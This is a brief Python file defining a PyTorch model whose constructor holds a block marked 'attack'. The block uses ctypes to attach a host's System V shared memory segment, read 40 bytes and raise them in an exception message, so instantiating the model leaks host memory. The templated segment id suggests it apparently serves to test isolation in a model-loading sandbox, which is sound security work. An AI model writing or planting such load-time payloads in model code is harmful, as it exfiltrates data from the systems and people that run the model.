"""Attaches a segment of System V shared memory that the host has made."""

import ctypes

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        libc = ctypes.CDLL(None)
        libc.shmat.restype = ctypes.c_void_p
        raise ValueError(ctypes.string_at(libc.shmat(ctypes.c_int(int("@SHARED_ID@")), None, 0o10000), 40))
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
